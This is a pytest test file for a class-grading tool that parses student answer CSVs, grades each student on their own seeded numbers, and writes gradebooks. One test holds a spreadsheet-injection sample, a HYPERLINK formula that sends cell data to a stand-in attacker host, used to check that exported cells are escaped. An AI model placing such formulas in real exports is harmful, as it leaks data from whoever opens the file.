"""Grading a class: answers files, each student's own numbers, the grades file, the summary, and the command line."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import textwrap
from dataclasses import replace
from pathlib import Path

import pytest

from micrograd_nptel import exercises
from micrograd_nptel.exercises import grading
from micrograd_nptel.exercises.grading import Answer, AnswersFileError, grade, read_answers, student_seed, summary, write_grades


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "micrograd_nptel", *args], capture_output=True, text=True, timeout=300, cwd=cwd)


def write(tmp_path: Path, text: str, name: str = "answers.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(textwrap.dedent(text).lstrip().encode(encoding))
    return path


def test_a_students_seed_is_stable_and_never_the_worked_example() -> None:
    assert student_seed("cs21b000") == 869301  # SHA-256 of the id: the same on every machine and Python
    assert student_seed("  cs21b000 ") == student_seed("cs21b000")
    seeds = {student_seed(f"s{i}") for i in range(2000)}
    assert len(seeds) > 1990 and min(seeds) >= 1 and max(seeds) < grading.STUDENT_SEEDS
    with pytest.raises(ValueError, match="empty"):
        student_seed(" ")
    with pytest.raises(TypeError, match="str"):
        student_seed(42)  # type: ignore[arg-type]


def test_get_by_student_gives_the_numbers_grade_checks() -> None:
    ex = exercises.get("4.7-weight", student="cs21b042")
    assert ex.seed == student_seed("cs21b042")
    assert ex.solution_value() == exercises.get("4.7-weight", seed=ex.seed).solution_value()
    with pytest.raises(ValueError, match="not both"):
        exercises.get("4.7-weight", seed=3, student="cs21b042")


def test_read_answers_quoting_bom_extra_columns_blank_lines_and_seeds(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        """
        Name,Student,Answer,Seed
        Asha,cs1,"[0.1, -0.2]",7

        Ravi,cs2,"dL/da_{2,2} * h_{1,3}",
        """,
        encoding="utf-8-sig",
    )
    assert read_answers(path) == [Answer("cs1", "[0.1, -0.2]", 7, 2), Answer("cs2", "dL/da_{2,2} * h_{1,3}", None, 4)]


def test_semicolons_tabs_and_windows_line_ends(tmp_path: Path) -> None:
    for text in ("student;answer\r\ncs1;[0.1, -0.2]\r\n", "student\tanswer\ncs1\t[0.1, -0.2]\n"):
        path = tmp_path / "answers.csv"
        path.write_bytes(text.encode("utf-8"))
        assert read_answers(path) == [Answer("cs1", "[0.1, -0.2]", None, 2)]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "is empty: it needs a header line 'student,answer'"),
        ("student,answer\n", "has a header but no answer"),
        ("id,answer\ncs1,0.5\n", "needs one column 'student'"),
        ("student,answer,answer\ncs1,0.5,0.6\n", "needs one column 'answer'"),
        ("student,answer\ncs1,0.5,0.6\n", "line 2: 3 cells where the header has 2 (quote an answer that holds a comma"),
        ("student,answer\ncs1,0.5\ncs1,0.7\n", "line 3: student 'cs1' already answered on line 2"),
        ("student,answer\n ,0.5\n", "line 2: the student id is empty"),
        ("student,answer,seed\ncs1,0.5,x\n", "line 2: seed 'x' is not a whole number"),
        ("student,answer,seed\ncs1,0.5,-1\n", "seed -1 is not in 0 .. 2**31 - 1"),
        ('student,answer\ncs1,"0.5\n', "not CSV"),
        ('student,answer\ncs1,"0.5"x\n', "line 2: not CSV"),
    ],
)
def test_a_malformed_answers_file_is_one_error_naming_the_line(tmp_path: Path, text: str, words: str) -> None:
    path = tmp_path / "answers.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(AnswersFileError, match="answers file") as info:
        read_answers(path)
    assert words in str(info.value) and "\n" not in str(info.value)


def test_the_file_is_checked_before_it_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ValueError, match="is a folder"):
        read_answers(tmp_path)
    with pytest.raises(FileNotFoundError, match="does not exist"):
        read_answers(tmp_path / "missing.csv")
    latin = write(tmp_path, "student,answer\ncafé,0.5\n", encoding="latin-1")
    with pytest.raises(AnswersFileError, match=r"not UTF-8 text \(line 2\)"):
        read_answers(latin)
    monkeypatch.setattr(grading, "MAX_ANSWERS_BYTES", 10)
    with pytest.raises(AnswersFileError, match="at most 10 are read"):
        read_answers(write(tmp_path, "student,answer\ncs1,0.5\n"))
    monkeypatch.setattr(grading, "MAX_ANSWERS_BYTES", 2**20)
    monkeypatch.setattr(grading, "MAX_STUDENTS", 2)
    with pytest.raises(AnswersFileError, match="more than 2 rows"):
        read_answers(write(tmp_path, "student,answer\na,1\nb,1\nc,1\n"))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "answers.csv"
    os.mkfifo(fifo)
    with pytest.raises(ValueError, match="not a regular file"):
        read_answers(fifo)


def test_each_student_is_graded_on_their_own_numbers() -> None:
    base = exercises.get("4.7-weight")
    mine, theirs = base.new(student_seed("cs1")), base.new(11)
    answers = [
        Answer("cs1", repr(mine.solution_value()), None, 2),  # right on cs1's numbers
        Answer("cs2", repr(mine.solution_value()), 11, 3),  # cs1's number copied by a student with seed 11
        Answer("cs3", repr(-theirs.solution_value()), 11, 4),
        Answer("cs4", "dL/da_{2,2} * h_{1,3}", 5, 5),
        Answer("cs5", "dL/da_{2,2} * ", None, 6),
        Answer("cs6", "", None, 7),
        Answer("cs7", "W_9", None, 8),
    ]
    rows = grade(base, answers)
    assert [(r.student, r.seed, r.correct, r.mistake) for r in rows] == [
        ("cs1", student_seed("cs1"), True, None),
        ("cs2", 11, False, rows[1].mistake),
        ("cs3", 11, False, "sign"),
        ("cs4", 5, True, None),
        ("cs5", student_seed("cs5"), False, "unreadable"),
        ("cs6", student_seed("cs6"), False, "unreadable"),
        ("cs7", student_seed("cs7"), False, "unreadable"),
    ]
    assert "cannot read the formula" in rows[4].message and "empty" in rows[5].message
    text = summary(rows)
    assert text.startswith("7 answers: 2 correct (28.6%), 5 not yet")
    assert "  unreadable  " in text and " 3   42.9%" in text and "sign" in text


def test_the_grades_file_reads_back(tmp_path: Path) -> None:
    rows = [grading.Grade("cs1", 5, True, None, "∂L/∂W = 1"), grading.Grade("cs, 2", 6, False, "sign", 'two\nlines "quoted"')]
    path = tmp_path / "grades.csv"
    write_grades(path, rows)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfstudent,")  # a byte-order mark: Excel reads it as UTF-8
    table = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert table == [list(grading.COLUMNS), ["cs1", "5", "1", "", "∂L/∂W = 1"], ["cs, 2", "6", "0", "sign", 'two\nlines "quoted"']]


def test_grade_on_the_command_line(tmp_path: Path) -> None:
    ex = exercises.get("4.5-output", student="cs1")
    answers = write(tmp_path, f'student,answer\ncs1,"{ex.solution_value().tolist()}"\ncs2,e(l) - yhat\ncs3,"W_{{2,"\n')
    result = run("grade", str(answers), "--exercise", "4.5-output", "-o", str(tmp_path / "grades.csv"))
    assert result.returncode == 0, result.stderr
    assert "4.5-output: 3 answers: 1 correct (33.3%), 2 not yet" in result.stderr and result.stdout == ""
    assert "3 seeds derived from the student ids" in result.stderr and "written to" in result.stderr
    table = list(csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8-sig", newline="")))
    assert [(r["student"], r["correct"], r["mistake"]) for r in table] == [
        ("cs1", "1", ""),
        ("cs2", "0", "sign"),
        ("cs3", "0", "unreadable"),
    ]
    assert table[0]["seed"] == str(student_seed("cs1"))
    printed = run("grade", str(answers), "--exercise", "4.5-output")
    assert printed.returncode == 0 and printed.stdout.startswith("student,seed,correct,mistake,message\n")
    assert "1 correct" in printed.stderr


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--exercise", "4.5-output"], "line 2: 3 cells where the header has 2"),
        (["--exercise", "no-such"], "no exercise called 'no-such'"),
    ],
)
def test_grade_errors_are_one_line_and_exit_2(tmp_path: Path, args: list[str], words: str) -> None:
    answers = write(tmp_path, "student,answer\ncs1,[0.1, 0.2]\n")
    result = run("grade", str(answers), *args)
    assert result.returncode == 2 and words in result.stderr and result.stderr.count("\n") == 1, result.stderr
    missing = run("grade", str(tmp_path / "nope.csv"), "--exercise", "4.5-output")
    assert missing.returncode == 2 and "does not exist" in missing.stderr and missing.stderr.count("\n") == 1


def test_assert_correct_raises_with_the_feedback() -> None:
    ex = exercises.get("4.6-hidden")
    ex.assert_correct("W_3^T @ grad_a_3")
    with pytest.raises(AssertionError, match=r"4.6-hidden: not yet \[sign\]") as info:
        ex.assert_correct("-(W_3^T @ grad_a_3)")
    assert "The sign is wrong" in str(info.value)
    with pytest.raises(AssertionError, match="placeholder"):
        ex.assert_correct(...)


def test_a_failing_test_shows_the_students_line_and_the_slip_not_the_library(tmp_path: Path) -> None:
    (tmp_path / "test_student.py").write_text(
        textwrap.dedent(
            """
            from micrograd_nptel import exercises
            from micrograd_nptel.examples import multipath
            from micrograd_nptel.testing import assert_gradient

            def test_exercise():
                exercises.get("4.6-hidden").assert_correct("-(W_3^T @ grad_a_3)")  # the student's line

            def test_gradient():
                z, v = multipath(2.0)
                assert_gradient(z, v["x"], 1.0)  # the student's formula
            """
        ),
        encoding="utf-8",
    )
    result = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_student.py"],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=tmp_path,
    )
    out = result.stdout
    assert result.returncode == 1 and "2 failed" in out, out
    assert "# the student's line" in out and "# the student's formula" in out
    assert "slip [missing_paths]" in out and "not yet [sign]" in out
    assert "feedback = self.check(answer)" not in out and "got = gradient(root, wrt)" not in out


# ---------------------------------------------------------------------- the gradebook
CLASS = (
    "name,student,email,4.5-output,Section,4.7-weight,4.6-hidden\n"
    'Asha,cs1,asha@example.org,e(l) - yhat,A,"dL/da_{2,2} * h_{1,3}",W_3^T @ grad_a_3\n'
    'Ravi,cs2,ravi@example.org,yhat - e(l),B,"-dL/da_{2,2} * h_{1,3}",\n'
    'Mira,cs3,,yhat - e(l),A,"dL/da_{2,2} * h_{1,3",W_3 @ grad_a_3\n'
)


def test_a_gradebook_keeps_the_columns_and_gives_a_score_and_one_line_per_exercise(tmp_path: Path) -> None:
    book = grading.gradebook(write(tmp_path, CLASS, "class.csv"))
    assert book.columns == (
        "name",
        "student",
        "email",
        "Section",
        *("4.5-output", "4.5-output feedback", "4.7-weight", "4.7-weight feedback", "4.6-hidden", "4.6-hidden feedback"),
        "total",
    )
    assert isinstance(book, list) and all(isinstance(r, dict) and list(r) == list(book.columns) for r in book)
    asha, ravi, mira = book
    assert (asha["name"], asha["email"], asha["Section"], mira["email"]) == ("Asha", "asha@example.org", "A", "")
    assert [(r["4.5-output"], r["4.7-weight"], r["4.6-hidden"], r["total"]) for r in book] == [(0, 1, 1, 2), (1, 0, 0, 1), (1, 0, 0, 1)]
    assert str(asha["4.5-output feedback"]).startswith("not yet [sign]: ")
    assert str(ravi["4.7-weight feedback"]).startswith("not yet [sign]") and ravi["4.6-hidden feedback"] == "no answer"
    assert str(mira["4.7-weight feedback"]).startswith("unreadable: ") and str(asha["4.7-weight feedback"]).startswith("correct: ")
    assert all("\n" not in str(v) for r in book for v in r.values())  # one line each
    # each student on their own numbers: the same as grading that exercise alone
    alone = grade(exercises.get("4.7-weight"), [Answer("cs2", "-dL/da_{2,2} * h_{1,3}", None, 2)])[0]
    assert book.grades["4.7-weight"][1] == alone
    text = book.summary()
    assert text.splitlines()[0] == "3 students, 3 exercises"
    assert "  4.5-output: 2/3 correct (66.7%); sign 1" in text and "  4.6-hidden: 1/3 correct (33.3%)" in text
    assert "no_answer 1" in text and book.grades["4.6-hidden"][1].mistake == "no_answer"


def test_a_gradebook_with_no_exercise_column_names_the_columns_and_the_exercises(tmp_path: Path) -> None:
    with pytest.raises(AnswersFileError, match=r"no column is headed by an exercise's name \(the columns: 'student', 'hw1'"):
        grading.gradebook(write(tmp_path, "student,hw1\ncs1,3\n", "class.csv"))
    with pytest.raises(ValueError, match="feedback must be 'full' or 'brief'"):
        grading.gradebook(write(tmp_path, CLASS, "class.csv"), feedback="short")  # type: ignore[arg-type]


def test_the_gradebook_on_the_command_line_with_a_teachers_file(tmp_path: Path) -> None:
    toml = write(
        tmp_path,
        """
        [[exercise]]
        name = "hw3-toy"
        expression = "z = log(y1/y2); y1 = x**2; y2 = x**3"
        target = "dz/dx"
        at = { x = 2.0 }
        """,
        "hw3.toml",
    )
    answers = write(tmp_path, "student,hw3-toy,4.6-hidden,section\ncs1,-1/x,W_3^T @ grad_a_3,A\ncs2,1/x,,B\n", "class.csv")
    out = tmp_path / "gradebook.csv"
    result = run("grade", str(answers), "--file", str(toml), "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert result.stdout == "" and "2 students, 2 exercises" in result.stderr and "hw3-toy: 1/2 correct (50.0%); sign 1" in result.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfstudent,section,hw3-toy,hw3-toy feedback,4.6-hidden,4.6-hidden feedback,total\r\n")
    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [(r["student"], r["section"], r["hw3-toy"], r["4.6-hidden"], r["total"]) for r in table] == [
        ("cs1", "A", "1", "1", "2"),
        ("cs2", "B", "0", "0", "0"),
    ]
    printed = run("grade", str(answers), "--file", str(toml), "--feedback", "brief")
    assert printed.returncode == 0 and printed.stdout.startswith("student,section,hw3-toy,")
    assert "not yet [sign]: a wrong sign" in printed.stdout


@pytest.mark.parametrize("target", ["answers", "toml", "link to answers", "link to toml", "hard link", "dotted"])
def test_the_output_never_names_an_input(tmp_path: Path, target: str) -> None:
    toml = write(tmp_path, '[[exercise]]\nname = "t"\nexpression = "z = x**2"\ntarget = "dz/dx"\nat = { x = 2.0 }\n', "t.toml")
    answers = write(tmp_path, "student,answer\ncs1,2*x\n")
    before = {p: p.read_bytes() for p in (toml, answers)}
    if target.startswith("link"):
        out = tmp_path / "link.csv"
        try:
            out.symlink_to(answers if target.endswith("answers") else toml)
        except OSError:
            pytest.skip("no symlinks here")
    elif target == "hard link":
        out = tmp_path / "hard.csv"
        try:
            os.link(answers, out)
        except OSError:
            pytest.skip("no hard links here")
    else:
        out = {"answers": answers, "toml": toml, "dotted": tmp_path / "." / answers.name}[target]
    result = run("grade", str(answers), "--exercise", "t", "--file", str(toml), "-o", str(out))
    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
    assert "the grades would replace it" in result.stderr
    assert "exercises file" in result.stderr if target in ("toml", "link to toml") else "answers file" in result.stderr
    assert {p: p.read_bytes() for p in (toml, answers)} == before


def test_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert grading.safe_cell(evil) == "'" + evil
    for cell in ("+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"):
        assert grading.safe_cell(cell) == "'" + cell
    for cell in ("-0.5", "+3", "1e-3", "-2.5E+4", "cs1", "", "a=b"):
        assert grading.safe_cell(cell) == cell
    assert (grading.safe_cell(-1), grading.safe_cell(True), grading.safe_cell(-0.25)) == ("-1", "1", "-0.25")
    text = f'student,note,4.6-hidden\n"{evil.replace(chr(34), chr(34) * 2)}",-see me,W_3^T @ grad_a_3\ncs2,@home,-0.5\n'
    out = tmp_path / "book.csv"
    grading.write_gradebook(out, grading.gradebook(write(tmp_path, text, "class.csv")))
    table = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    cells = [c for row in table for c in row]
    assert table[1][:2] == ["'" + evil, "'-see me"] and table[2][:2] == ["cs2", "'@home"]
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") and not grading._NUMBER.fullmatch(c) for c in cells)
    grades = grade(exercises.get("4.6-hidden"), [Answer(evil, "W_3^T @ grad_a_3", None, 2)])
    assert grading.grades_csv(grades).splitlines()[1].startswith("\"'=HYPERLINK(")


def test_brief_feedback_names_the_slip_and_gives_no_number_of_the_solution() -> None:
    ex = exercises.get("4.7-weight")
    cases = ["-dL/da_{2,2} * h_{1,3}", "dL/da_{2,3} * h_{1,2}", "dL/da_{2,2} * h_{2,3}", "0.123", "dL/da_{2,2}", "dL/da_{2,2} * h_{1,3"]
    answers = [Answer(f"s{i}", a, 7, i) for i, a in enumerate(cases)]
    full, short = grade(ex, answers), grade(ex, answers, feedback="brief")
    value = f"{float(ex.new(7).solution_value()):.6g}"
    assert any(value.lstrip("-") in g.message for g in full)  # the full message gives the answer away
    for f, b in zip(full, short):
        assert (b.correct, b.mistake) == (f.correct, f.mistake)
        assert value.lstrip("-") not in b.message and "\n" not in b.message
        assert not re.search(r"\d\.\d\d", b.message.split(":", 1)[-1] if b.mistake != "unreadable" else ""), b.message
    assert short[0].message == "not yet [sign]: " + exercises.MISTAKES["sign"]
    assert short[5].message.startswith("unreadable: ")
    assert grading.brief(grading.Grade("s", 1, True, None, "x = 3.5")) == "correct"
    assert grading.brief(grading.Grade("s", 1, False, "no_bias", "b_2 = 0.31 is missing")) == "not yet [no_bias]"


def test_brief_on_the_command_line(tmp_path: Path) -> None:
    answers = write(tmp_path, 'student,answer,seed\ncs1,"-dL/da_{2,2} * h_{1,3}",7\n')
    result = run("grade", str(answers), "--exercise", "4.7-weight", "--feedback", "brief")
    assert result.returncode == 0, result.stderr
    row = list(csv.reader(io.StringIO(result.stdout)))[1]
    assert row == ["cs1", "7", "0", "sign", f"not yet [sign]: {exercises.MISTAKES['sign']}"]


def test_a_student_whose_numbers_cannot_be_built_is_a_row_not_the_end_of_the_class() -> None:
    base = exercises.get("4.6-hidden")
    world = base.world
    assert world is not None

    def fragile(seed: int, k: int) -> object:
        if seed == 13:
            raise ValueError("log(x - 2.0): no finite numbers in 20 draws")
        return world(seed, k)

    ex = replace(base, world=fragile)
    rows = grade(ex, [Answer("cs1", "W_3^T @ grad_a_3", 12, 2), Answer("cs2", "W_3^T @ grad_a_3", 13, 3), Answer("cs3", "1", 14, 4)])
    assert [(r.correct, r.mistake) for r in rows] == [(True, None), (False, "no_numbers"), (False, rows[2].mistake)]
    assert rows[1].message == "no numbers for seed 13: log(x - 2.0): no finite numbers in 20 draws"
    assert "no_numbers" in summary(rows)


def test_columns_that_look_like_an_exercise_but_name_none_are_found_with_the_closest_names() -> None:
    names = [e.name for e in exercises.catalogue()]
    ordinary = ["name", "student", "email", "Section", "seed", "roll no", "Timestamp", "marks", "comments", "phone", "group"]
    ordinary += ["first name", "email address", "cs21b042", "q1", "total", "4.7-weight", "4.7-weight feedback", ""]
    assert grading.unmatched_columns(ordinary, names) == []
    found = dict(grading.unmatched_columns([" 4.7-weigth ", "hw3-toy", "4.6 Hidden", "softmax", "hw3_toy", "section"], names))
    assert found == {
        "4.7-weigth": ("4.7-weight", "4.7-weights", "4.4-weight"),
        "hw3-toy": (),
        "4.6 Hidden": ("4.6-hidden", "4.6-hidden-unit"),
        "softmax": ("4.5-softmax",),
        "hw3_toy": (),
    }
    assert grading.unmatched_columns(["hw3-tooy"], [*names, "hw3-toy"]) == [("hw3-tooy", ("hw3-toy",))]


def test_grade_warns_of_each_column_that_looks_like_an_exercise_and_is_not_graded(tmp_path: Path) -> None:
    answers = write(
        tmp_path,
        "name,student,email,section,4.7-weigth,4.6-hidden,hw3-toy\nAsha,cs1,a@example.org,A,1,W_3^T @ grad_a_3,-1/x\n",
        "class.csv",
    )
    book = grading.gradebook(answers)
    assert book.unmatched == (("4.7-weigth", ("4.7-weight", "4.7-weights", "4.4-weight")), ("hw3-toy", ()))
    assert book.columns[:7] == ("name", "student", "email", "section", "4.7-weigth", "hw3-toy", "4.6-hidden")  # kept
    result = run("grade", str(answers))
    assert result.returncode == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if "warning" in line]
    assert warnings == [
        "micrograd-nptel grade: warning: column '4.7-weigth' names no exercise and is not graded; "
        "did you mean 4.7-weight, 4.7-weights or 4.4-weight?",
        "micrograd-nptel grade: warning: column 'hw3-toy' names no built-in exercise and is not graded; "
        "use --file for a teacher's exercises",
    ]
    assert not any(c in result.stderr for c in ("'name'", "'email'", "'section'"))
    # one of each: the counts in the singular
    assert "1 student, 1 exercise\n" in result.stderr and "1 seed derived from the student id " in result.stderr
    homework = '[[exercise]]\nname = "hw3-toy"\nexpression = "z = log(y1/y2); y1 = x**2; y2 = x**3"\ntarget = "dz/dx"\nat = { x = 2.0 }\n'
    toml = write(tmp_path, homework, "hw3.toml")
    with_file = run("grade", str(answers), "--file", str(toml))
    assert with_file.returncode == 0 and "1 student, 2 exercises" in with_file.stderr and "hw3-toy: 1/1 correct" in with_file.stderr
    assert [line for line in with_file.stderr.splitlines() if "warning" in line] == warnings[:1]
    other = write(tmp_path, "student,hw4-toy,4.6-hidden\ncs1,1,W_3^T @ grad_a_3\ncs2,2,\n", "other.csv")
    done = run("grade", str(other), "--file", str(toml))
    assert done.returncode == 0 and "did you mean hw3-toy or 4.6-toy?" in done.stderr
    # nothing graded: exit 2, one line that says which column is close to which name
    nothing = write(tmp_path, "student,4.7-weigth,hw3-toy\ncs1,1,2\n", "nothing.csv")
    failed = run("grade", str(nothing))
    assert failed.returncode == 2 and failed.stderr.count("\n") == 1, failed.stderr
    assert "'4.7-weigth' is close to 4.7-weight" in failed.stderr and "'hw3-toy' looks like an exercise's name" in failed.stderr


def test_the_summaries_count_in_the_singular_and_the_plural() -> None:
    one = [grading.Grade("cs1", 5, True, None, "")]
    assert summary(one).splitlines()[0] == "1 answer: 1 correct (100.0%), 0 not yet"
    assert summary(one * 2).splitlines()[0] == "2 answers: 2 correct (100.0%), 0 not yet"
